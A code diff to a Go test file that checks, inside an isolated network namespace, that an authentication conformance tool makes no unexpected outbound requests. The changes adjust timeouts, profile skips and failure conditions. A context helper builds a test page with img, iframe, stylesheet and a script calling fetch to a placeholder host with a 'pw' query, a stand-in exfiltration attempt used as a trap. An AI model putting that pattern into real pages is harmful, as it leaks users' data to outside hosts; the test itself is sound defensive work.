@@ -10,6 +10,8 @@ import (
 	"sync/atomic"
 	"testing"
 	"time"
+
+	"github.com/authconform/authconform/internal/exit"
 )
 
 // inNamespace says that the test runs in a network of its own.
@@ -112,13 +114,17 @@ func nothingElse(t *testing.T) {
 	}
 	for _, c := range traps(ears) {
 		for profile, open := range stages() {
+			if c.browser && profile == "linking" {
+				continue // no row of it opens a page
+			}
 			t.Run(c.name+", "+profile, func(t *testing.T) {
 				if c.browser {
 					needsBrowser(t)
 				}
+				c.sprung.Store(0)
 				target, args, env := open(t, c)
-				h := under(t, "", env, append(args, "--target", target, "--profile", profile, "--request-timeout", "2s")...)
-				if c.sprung.Load() == 0 {
+				h := under(t, "", env, append(args, "--target", target, "--profile", profile, "--request-timeout", "2s", "--timeout", "20s")...)
+				if c.sprung.Load() == 0 || h.code == exit.Usage {
 					t.Errorf("the trap was never met: exit %d\n%s", h.code, h.all())
 				}
 				silent(t, ears...)
@@ -134,7 +140,7 @@ func nothingElse(t *testing.T) {
 	}
 }
 
-// page is a script of all ways out of a page.
+// ways is a page's attempt at every way out.
 func ways(at string) string {
 	return strings.ReplaceAll(`<img src="http://AT/i"><link rel="stylesheet" href="http://AT/s"><iframe src="http://AT/f"></iframe><script>
 fetch("http://AT/?pw", {mode: "no-cors"}).catch(() => {});
